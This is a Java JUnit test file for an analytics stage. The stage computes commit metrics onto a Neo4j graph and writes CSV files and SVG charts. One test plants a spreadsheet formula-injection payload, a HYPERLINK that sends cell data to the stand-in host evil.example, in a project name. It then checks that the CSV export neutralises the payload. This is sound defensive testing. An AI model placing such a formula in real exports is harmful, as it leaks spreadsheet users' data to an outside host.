package org.ossatlas.analytics;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ossatlas.analytics.testing.CommitFixture.bot;
import static org.ossatlas.analytics.testing.CommitFixture.commit;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.neo4j.driver.Value;
import org.ossatlas.analytics.graph.ComputedProperties;
import org.ossatlas.analytics.output.CsvValues;
import org.ossatlas.analytics.testing.CommitFixture;
import org.ossatlas.common.RunLog;
import org.ossatlas.common.StageReport;
import org.ossatlas.common.Workspace;
import org.ossatlas.graph.GraphConnection;
import org.ossatlas.graph.testing.SharedTestGraph;

/** The whole stage against a real embedded Neo4j: graph made with Cypher, commits inline. */
class AnalyzerTest {
  private static final AnalysisOptions AS_OF_MARCH = AnalysisOptions.asOf(YearMonth.of(2024, 3));
  private static final Clock CLOCK =
      Clock.fixed(Instant.parse("2024-04-15T00:00:00Z"), ZoneOffset.UTC);

  @TempDir Path dir;
  private Workspace workspace;
  private GraphConnection graph;

  @BeforeEach
  void graph() {
    workspace = new Workspace(dir.resolve("sheets"), dir.resolve("data"), dir.resolve("out"));
    graph = SharedTestGraph.emptied();
    graph.write(
        tx ->
            tx.run(
                    """
                    CREATE (data:Category {id: 'data', name: 'Data', depth: 0})
                    CREATE (db:Category {id: 'databases', name: 'Databases', parent: 'data', depth: 1})
                    CREATE (tools:Category {id: 'tools', name: 'Tools', depth: 0})
                    CREATE (db)-[:SUBCATEGORY_OF]->(data)
                    CREATE (alpha:Project {id: 'alpha', name: 'Alpha DB', primary_category: 'databases'})
                    CREATE (beta:Project {id: 'beta', name: 'Beta', primary_category: 'data'})
                    CREATE (gamma:Project {id: 'gamma', name: 'Gamma', primary_category: 'tools'})
                    CREATE (alpha)-[:IN_CATEGORY {primary: true, position: 0}]->(db)
                    CREATE (alpha)-[:IN_CATEGORY {primary: false, position: 1}]->(tools)
                    CREATE (beta)-[:IN_CATEGORY {primary: true, position: 0}]->(data)
                    CREATE (gamma)-[:IN_CATEGORY {primary: true, position: 0}]->(tools)
                    CREATE (acme:Backer {id: 'acme', name: 'Acme', kind: 'company'})
                    CREATE (alpha)-[:BACKED_BY {role: 'creator'}]->(acme)
                    CREATE (gamma)-[:BACKED_BY {role: 'sponsor'}]->(acme)
                    CREATE (gamma)-[:RELATED {kind: 'integrates-with'}]->(alpha)
                    """)
                .consume());
  }

  /** alice and bob work on alpha and beta; carol on gamma; a bot on alpha. */
  private static List<String> history() {
    List<String> rows = new ArrayList<>();
    for (String month : List.of("2023-11", "2024-01", "2024-03")) {
      rows.add(commit("alpha", "alice", month + "-02T10:00:00Z"));
      rows.add(commit("alpha", "bob", month + "-03T10:00:00Z"));
      rows.add(commit("beta", "alice", month + "-04T10:00:00Z"));
    }
    rows.add(commit("beta", "bob", "2024-02-05T10:00:00Z"));
    rows.add(commit("gamma", "carol", "2024-02-06T10:00:00Z"));
    rows.add(bot("alpha", "dependabot[bot]", "2024-03-07T10:00:00Z"));
    rows.add(commit("alpha", "dave", "2024-04-01T10:00:00Z")); // after metrics_as_of
    return rows;
  }

  private AnalysisReport analyze(List<String> rows) {
    CommitFixture.write(workspace.commits(), rows);
    return new Analyzer(CLOCK).analyze(graph, workspace, AS_OF_MARCH);
  }

  private Map<String, Value> properties(String label, String id) {
    return graph.read(
        tx ->
            tx.run("MATCH (n:" + label + " {id: $id}) RETURN properties(n) AS p", Map.of("id", id))
                .single()
                .get("p")
                .asMap(v -> v));
  }

  private static List<CSVRecord> csv(Path file) throws IOException {
    try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
      return CSVFormat.DEFAULT.builder().setHeader().get().parse(in).getRecords();
    }
  }

  @Test
  void publishedCsvCellsCannotRunAsSpreadsheetFormulas() throws IOException {
    String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
    graph.write(
        tx ->
            tx.run("MATCH (p:Project {id: 'alpha'}) SET p.name = $n", Map.of("n", formula))
                .consume());
    graph.write(tx -> tx.run("MATCH (p:Project {id: 'beta'}) SET p.name = '@SUM(1+1)'").consume());
    analyze(history());

    Map<String, String> names = new java.util.HashMap<>();
    for (CSVRecord row : csv(workspace.metrics().resolve("projects.csv"))) {
      names.put(row.get("id"), row.get("name"));
    }
    assertThat(names)
        .containsEntry("alpha", "'" + formula)
        .containsEntry("beta", "'@SUM(1+1)")
        .containsEntry("gamma", "Gamma");
  }

  @Test
  void writesMetricsOntoTheGraphAndTheSameValuesIntoTheCsvFiles() throws IOException {
    AnalysisReport report = analyze(history());

    assertThat(report.metricsAsOf()).isEqualTo("2024-03");
    assertThat(report.commitsAnalyzed()).isEqualTo(12);
    assertThat(report.projectsWithCommits()).isEqualTo(3);
    Path metrics = workspace.metrics();
    for (CSVRecord row : csv(metrics.resolve("projects.csv"))) {
      Map<String, Value> node = properties("Project", row.get("id"));
      for (String column : row.getParser().getHeaderNames()) {
        if (column.equals("id") || column.equals("name")) {
          continue;
        }
        Value value = node.get(column);
        String expected = value == null ? "" : CsvValues.format(value.asObject());
        assertThat(row.get(column)).as(row.get("id") + "." + column).isEqualTo(expected);
      }
      List<CSVRecord> series = csv(metrics.resolve("projects").resolve(row.get("id") + ".csv"));
      assertThat(node.get("series_months").asList(Value::asString))
          .isEqualTo(series.stream().map(r -> r.get("month")).toList());
      for (String column : List.of("commits", "authors", "new_authors", "bot_commits")) {
        assertThat(node.get("series_" + column).asList(Value::asLong))
            .as(row.get("id") + ".series_" + column)
            .isEqualTo(series.stream().map(r -> Long.parseLong(r.get(column))).toList());
      }
    }
    Map<String, Value> alpha = properties("Project", "alpha");
    assertThat(alpha.get("commits").asLong()).isEqualTo(6);
    assertThat(alpha.get("bot_commits").asLong()).isEqualTo(1);
    assertThat(alpha.get("metrics_as_of").asString()).isEqualTo("2024-03");
    assertThat(alpha.get("series_months").asList(Value::asString))
        .containsExactly("2023-11", "2023-12", "2024-01", "2024-02", "2024-03");
    assertThat(alpha.get("rank_in_category").asLong()).isEqualTo(1);
    assertThat(alpha.get("centrality").asDouble()).isGreaterThan(1.0);
  }

  @Test
  void categoriesIncludeSubcategoriesAndCountAnAuthorOnce() {
    analyze(history());

    Map<String, Value> data = properties("Category", "data");
    // alpha (through databases) and beta: alice and bob in both, counted once.
    assertThat(data.get("projects").asLong()).isEqualTo(2);
    assertThat(data.get("commits").asLong()).isEqualTo(10);
    assertThat(data.get("authors").asLong()).isEqualTo(2);
    assertThat(properties("Category", "tools").get("authors").asLong()).isEqualTo(3);
    Map<String, Value> acme = properties("Backer", "acme");
    assertThat(acme.get("projects").asLong()).isEqualTo(2);
    assertThat(acme.get("commits").asLong()).isEqualTo(7);
    assertThat(Files.exists(workspace.metrics().resolve("categories/data.csv"))).isTrue();
    assertThat(Files.exists(workspace.metrics().resolve("backers/acme.csv"))).isTrue();
  }

  @Test
  void linksProjectsSharingContributorsOncePerPair() {
    AnalysisReport report = analyze(history());

    List<Map<String, Object>> links =
        graph.read(
            tx ->
                tx.run(
                        "MATCH (a)-[r:SHARES_CONTRIBUTORS]->(b)"
                            + " RETURN a.id AS a, b.id AS b, r.shared AS shared, r.jaccard AS j")
                    .list(r -> r.asMap()));
    assertThat(links).containsExactly(Map.of("a", "alpha", "b", "beta", "shared", 2L, "j", 1.0));
    assertThat(report.links()).isEqualTo(1);
  }

  @Test
  void aSecondRunRemovesWhatIsNoLongerTrue() {
    analyze(history());
    List<String> withoutBeta = history().stream().filter(r -> !r.startsWith("beta,")).toList();

    analyze(withoutBeta);

    assertThat(properties("Project", "beta")).doesNotContainKeys("commits", "series_months");
    assertThat(properties("Project", "beta")).containsKeys("centrality", "metrics_as_of");
    long links =
        graph.read(
            tx ->
                tx.run("MATCH ()-[r:SHARES_CONTRIBUTORS]->() RETURN count(r) AS n")
                    .single()
                    .get("n")
                    .asLong());
    assertThat(links).isZero();
    assertThat(Files.exists(workspace.metrics().resolve("projects/beta.csv"))).isFalse();
    assertThat(Files.exists(workspace.charts().resolve("projects/beta.svg"))).isFalse();
  }

  @Test
  void withoutACommitsFileItWarnsAndClearsEverythingComputed() throws IOException {
    analyze(history());
    Files.delete(workspace.commits());

    AnalysisReport report =
        new Analyzer(CLOCK).analyze(graph, workspace, AnalysisOptions.defaults());

    assertThat(report.warnings()).contains("no commits harvested yet: run make harvest");
    assertThat(report.metricsAsOf()).isNull();
    for (String id : List.of("alpha", "beta", "gamma")) {
      assertThat(properties("Project", id).keySet())
          .doesNotContainAnyElementsOf(ComputedProperties.all());
    }
    assertThat(properties("Category", "data").keySet())
        .doesNotContainAnyElementsOf(ComputedProperties.all());
    try (Stream<Path> files = Files.walk(workspace.metrics())) {
      assertThat(files.filter(Files::isRegularFile)).isEmpty();
    }
    try (Stream<Path> files = Files.walk(workspace.charts())) {
      assertThat(files.filter(Files::isRegularFile)).isEmpty();
    }
    assertThat(Files.exists(workspace.stamps().resolve("analyze.done"))).isTrue();
    StageReport last = lastRun();
    assertThat(last.stage()).isEqualTo("analyze");
    assertThat(last.succeeded()).isTrue();
    assertThat(last.warnings()).contains("no commits harvested yet: run make harvest");
  }

  @Test
  void recordsTheRunAndTouchesTheStamp() throws IOException {
    analyze(history());

    StageReport last = lastRun();
    assertThat(last.in()).containsEntry("commit rows", 13L);
    assertThat(last.out()).containsEntry("series", 3L + 3L + 1L).containsEntry("charts", 10L);
    assertThat(last.skipped()).extracting(StageReport.Skipped::item).contains("1 commits");
    assertThat(Files.readString(workspace.stamps().resolve("analyze.done"))).isEqualTo("2024-03\n");
  }

  @Test
  void chartsAreSmallTextualAndTheSameBytesOnEveryRun() throws IOException {
    analyze(history());
    Map<Path, byte[]> first = readAll(workspace.charts());
    analyze(history());
    Map<Path, byte[]> second = readAll(workspace.charts());

    assertThat(first.keySet())
        .contains(
            Path.of("projects/alpha.svg"),
            Path.of("projects/alpha.spark.svg"),
            Path.of("categories/data.svg"),
            Path.of("backers/acme.svg"));
    assertThat(second.keySet()).isEqualTo(first.keySet());
    for (Path p : first.keySet()) {
      assertThat(second.get(p)).as(p.toString()).isEqualTo(first.get(p));
      assertThat(first.get(p).length).as(p.toString()).isLessThan(20_000);
    }
    String alpha = new String(first.get(Path.of("projects/alpha.svg")), StandardCharsets.UTF_8);
    assertThat(alpha)
        .startsWith("<svg xmlns=\"http://www.w3.org/2000/svg\"")
        .contains(
            "<title id=\"chart-alpha-t\">Alpha DB: commits and active authors per month</title>")
        .contains(
            "<desc id=\"chart-alpha-d\">In the 12 months to 2024-03, Alpha DB had 6 commits by 2"
                + " authors")
        .contains(">2024</text>", ">active authors</text>")
        .contains("var(--atlas-c0,");
  }

  private StageReport lastRun() {
    List<StageReport> runs = new RunLog(workspace).read();
    return runs.get(runs.size() - 1);
  }

  private static Map<Path, byte[]> readAll(Path root) throws IOException {
    Map<Path, byte[]> files = new HashMap<>();
    try (Stream<Path> walk = Files.walk(root)) {
      for (Path p : walk.filter(Files::isRegularFile).toList()) {
        files.put(root.relativize(p), Files.readAllBytes(p));
      }
    }
    return files;
  }
}
